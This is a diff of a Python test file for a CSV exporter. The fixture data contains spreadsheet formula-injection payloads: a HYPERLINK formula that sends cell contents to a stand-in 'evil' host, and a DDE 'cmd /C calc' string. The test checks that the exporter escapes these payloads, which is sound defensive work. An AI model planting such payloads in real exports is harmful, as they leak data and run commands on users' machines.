@@ -53,12 +53,12 @@ application:
       - {year: 2022, class: 6, amount: -3.5, basis: difference-2021}
     approvals: {dsi: {on: 2020-01-01, note: "oui, mais"}, dpo: false}
     properties: {Salle: B12, Étages: ["1", "2"]}
-  calc:
+  orbis: {name: ORBIS, type: core, part_of: agathe, contracts: [], tags: []}
+  tableur:
     name: =HYPERLINK("http://evil/?"&A1)
     aliases: ["@SUM(1+1)*cmd|' /C calc'!A0", "'=1", "''+1", "-"]
     description: "-2+3"
     properties: {"+1": "=1", Bas: ["-1", "＝1"]}
-  orbis: {name: ORBIS, type: core, part_of: agathe, contracts: [], tags: []}
 flow:
   siu-orbis: {source: siu, target: orbis, data: [identite], mode: message, port: 2575, need: vital}
 """
@@ -112,8 +112,12 @@ def test_no_cell_of_the_table_is_a_formula_and_a_number_stays_one(tmp_path: Path
     lines = exported(a_workspace(tmp_path, si=SI), "csv").read_text(encoding="utf-8-sig")
     table = {row["id"]: row for row in csv.DictReader(io.StringIO(lines, newline=""))}
     assert not [cell for row in table.values() for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
-    calc, agathe = table["calc"], table["agathe"]
-    assert (calc["name"][:12], calc["description"], agathe["yearly_cost"]) == ("'=HYPERLINK(", "'-2+3", "120000.5")
+    tableur, agathe = table["tableur"], table["agathe"]
+    assert (tableur["name"][:12], tableur["description"], agathe["yearly_cost"]) == (
+        "'=HYPERLINK(",
+        "'-2+3",
+        "120000.5",
+    )
 
 
 def test_a_graph_that_was_edited_says_what_changed_where(tmp_path: Path) -> None:
